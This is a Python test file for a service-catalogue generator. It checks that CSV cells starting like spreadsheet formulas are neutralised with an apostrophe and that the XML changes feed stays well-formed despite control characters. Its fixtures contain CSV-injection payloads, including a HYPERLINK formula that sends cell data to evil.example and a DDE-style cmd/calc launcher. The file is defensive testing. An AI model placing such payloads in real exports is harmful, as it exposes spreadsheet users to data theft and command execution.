"""Hostile text in the exports: no spreadsheet formulas in the CSV, a well-formed feed always.

The JSON files keep every value exactly as written; only the CSV's cells and the
feed's XML are made safe for the programs that read them.
"""

from __future__ import annotations

import csv
import io
import json
import xml.etree.ElementTree as ET
from datetime import date
from pathlib import Path
from xml.dom import minidom

import pytest

from generator.export.csv_table import FORMULA_STARTS, catalogue_csv
from generator.export.feed import changes_feed
from generator.export.site_urls import SiteUrls
from generator.export.writer import ExportOptions, write_exports
from generator.model.catalogue import Catalogue
from generator.site import urls as paths
from generator.validate.catalogue import load_catalogue, require_catalogue

TODAY = date(2025, 6, 1)

#: A service whose every free-text field a spreadsheet would run as a formula.
FORMULA_SERVICE = """\
name: '=HYPERLINK("https://evil.example/?d="&A1,"Avaa")'
summary: "+358 40 123 4567 on neuvonnan numero."
themes: [kuntoutus]
provider: kunta
area: region
what: |
  - ensimmäinen kohta
  - toinen kohta
why: "@SUM(1+1)*cmd|' /C calc'!A0"
how: '=1+1'
for_whom: "-2+3"
access:
  routes: [referral]
  referral_from: ["=lääkäri", terveydenhoitaja]
  decision_by: "@sosiaalityöntekijä"
  note: "-lähete tarvitaan"
eligibility:
  conditions: "=ehdot"
contacts:
  - name: "=Toimisto"
    phone: "+358 40 765 4321"
validity:
  until: 2099-12-31
owner: "@tiimi"
keywords: ["=kaava", "tavallinen"]
"""

#: The CSV columns written from FORMULA_SERVICE's fields, with the text each starts with.
FORMULA_CELLS = {
    "name": '=HYPERLINK("https://evil.example/?d="&A1,"Avaa")',
    "summary": "+358 40 123 4567 on neuvonnan numero.",
    "what": "- ensimmäinen kohta\n- toinen kohta",
    "why": "@SUM(1+1)*cmd|' /C calc'!A0",
    "how": "=1+1",
    "for_whom": "-2+3",
    "referral_from": "=lääkäri\nterveydenhoitaja",
    "decision_by": "@sosiaalityöntekijä",
    "access_note": "-lähete tarvitaan",
    "eligibility_conditions": "=ehdot",
    "contacts": "=Toimisto; +358 40 765 4321",
    "owner": "@tiimi",
    "keywords": "=kaava\ntavallinen",
}

#: Every C0 and C1 control character (tab and line feed too), DEL, the line and
#: paragraph separators, a lone surrogate and the non-characters XML forbids.
EVERY_CONTROL = "".join(chr(c) for c in (*range(0x00, 0x20), *range(0x7F, 0xA0))) + (
    "\u2028\u2029\ud800\ufffe\uffff"
)
#: What a feed reader gets of "Ohjaus{EVERY_CONTROL}palvelu": what XML 1.0 allows
#: stays, and a parser reads the carriage return as a line feed.
FEED_TEXT = "Ohjaus\t\n\n" + "".join(chr(c) for c in range(0x7F, 0xA0)) + "\u2028\u2029palvelu"


def _csv_rows(site: Path) -> list[dict[str, str]]:
    raw = (site / paths.EXPORT_DIR / paths.CATALOGUE_CSV).read_text(encoding="utf-8-sig")
    return list(csv.DictReader(io.StringIO(raw, newline="")))


@pytest.fixture
def formula_catalogue(mini_project: Path) -> Catalogue:
    services = mini_project / "catalogue" / "services"
    (services / "kaava.yml").write_text(FORMULA_SERVICE, encoding="utf-8")
    providers = mini_project / "catalogue" / "providers.yml"
    text = providers.read_text(encoding="utf-8")
    name = next(line.split(":", 1)[1].strip() for line in text.splitlines() if "name:" in line)
    providers.write_text(text.replace(f"name: {name}", "name: '-Kunta'", 1), encoding="utf-8")
    catalogue, _ = require_catalogue(mini_project / "catalogue")
    return catalogue


def test_csv_cells_that_a_spreadsheet_would_run_start_with_an_apostrophe(
    formula_catalogue: Catalogue, tmp_path: Path
) -> None:
    write_exports(formula_catalogue, tmp_path, ExportOptions(today=TODAY))
    rows = _csv_rows(tmp_path)
    row = next(r for r in rows if r["id"] == "kaava")
    assert {column: row[column] for column in FORMULA_CELLS} == {
        column: "'" + text for column, text in FORMULA_CELLS.items()
    }
    assert row["provider"] == "'-Kunta"
    assert row["themes"] == "Kuntoutus", "ordinary text is left as it is"
    for each in rows:
        for column, value in each.items():
            assert not value.startswith(FORMULA_STARTS), (each["id"], column, value)


def test_json_and_hsds_keep_the_exact_text(formula_catalogue: Catalogue, tmp_path: Path) -> None:
    write_exports(formula_catalogue, tmp_path, ExportOptions(today=TODAY))
    folder = tmp_path / paths.EXPORT_DIR
    record = next(
        s
        for s in json.loads((folder / paths.CATALOGUE_JSON).read_text(encoding="utf-8"))["services"]
        if s["id"] == "kaava"
    )
    assert record["name"] == FORMULA_CELLS["name"]
    assert record["summary"] == FORMULA_CELLS["summary"]
    assert record["what"] == FORMULA_CELLS["what"]
    assert record["keywords"] == ["=kaava", "tavallinen"]
    assert record["owner"] == "@tiimi"
    assert record["contacts"][0] == {"name": "=Toimisto", "phone": "+358 40 765 4321"}
    hsds = json.loads((folder / paths.HSDS_SERVICES).read_text(encoding="utf-8"))
    assert FORMULA_CELLS["name"] in [s["name"] for s in hsds["contents"]]
    organizations = json.loads((folder / paths.HSDS_ORGANIZATIONS).read_text(encoding="utf-8"))
    assert "-Kunta" in [o["name"] for o in organizations["contents"]]


@pytest.mark.parametrize("start", FORMULA_STARTS, ids=repr)
def test_every_formula_start_is_neutralised_even_without_validation(
    rich_catalogue: Catalogue, start: str
) -> None:
    """Tab and carriage return cannot pass validation; the CSV does not rely on that."""
    service = rich_catalogue.services_by_id["kolmas"]
    service.entry = service.entry.model_copy(update={"name": f"{start}1+1", "owner": f"{start}cmd"})
    rows = list(csv.DictReader(io.StringIO(catalogue_csv(rich_catalogue, SiteUrls(), TODAY), newline="")))
    row = next(r for r in rows if r["id"] == "kolmas")
    assert (row["name"], row["owner"]) == (f"'{start}1+1", f"'{start}cmd")


def test_validation_refuses_every_control_character_the_feed_would_carry(mini_project: Path) -> None:
    escapes = "".join(f"\\u{ord(c):04x}" for c in EVERY_CONTROL if c not in "\t\n\ud800")
    path = mini_project / "catalogue" / "services" / "ohjaus.yml"
    path.write_text(
        f'name: "Ohjaus{escapes}palvelu"\nsummary: "Ohjaus\\vpalvelu"\n'
        "themes: [kuntoutus]\nprovider: kunta\narea: region\nwhat: Jotain.\n",
        encoding="utf-8",
    )
    catalogue, problems = load_catalogue(mini_project / "catalogue")
    assert catalogue is None
    assert [(p.file, p.line, p.field) for p in problems.errors] == [(path, 1, "name"), (path, 2, "summary")]


def _hostile(catalogue: Catalogue, controls: str = EVERY_CONTROL) -> Catalogue:
    """Every text the feed writes, full of control characters, bypassing validation."""
    evil = f"Ohjaus{controls}palvelu"
    for service in catalogue.services:
        service.entry = service.entry.model_copy(update={"name": evil, "summary": evil})
        service.themes = [theme.model_copy(update={"name": evil}) for theme in service.themes]
    site = catalogue.region.site.model_copy(update={"title": evil})
    catalogue.region = catalogue.region.model_copy(update={"site": site})
    return catalogue


@pytest.mark.parametrize("site_url", ["", "https://palvelut.example.org/\x0b"])
def test_the_feed_is_well_formed_whatever_text_it_is_given(rich_catalogue: Catalogue, site_url: str) -> None:
    catalogue = _hostile(rich_catalogue)
    feed = changes_feed(catalogue, SiteUrls(site_url), TODAY)
    minidom.parseString(feed.encode("utf-8"))
    channel = ET.fromstring(feed).find("channel")
    assert channel is not None
    items = channel.findall("item")
    assert items and all(item.findtext("title") == FEED_TEXT for item in items)
    assert all(item.findtext("description") == FEED_TEXT for item in items)
    assert {c.text for item in items for c in item.iter("category")} == {FEED_TEXT}
    assert (channel.findtext("title") or "").startswith(FEED_TEXT)


def test_the_written_feed_file_is_well_formed(rich_catalogue: Catalogue, tmp_path: Path) -> None:
    # Without the lone surrogate, which no UTF-8 file (the JSON beside it too) can hold.
    catalogue = _hostile(rich_catalogue, EVERY_CONTROL.replace("\ud800", ""))
    write_exports(catalogue, tmp_path, ExportOptions(site_url="https://palvelut.example.org/", today=TODAY))
    feed = ET.parse(tmp_path / paths.EXPORT_DIR / paths.FEED).getroot()
    titles = [item.findtext("title") for item in feed.iter("item")]
    assert titles and all(title == FEED_TEXT for title in titles)
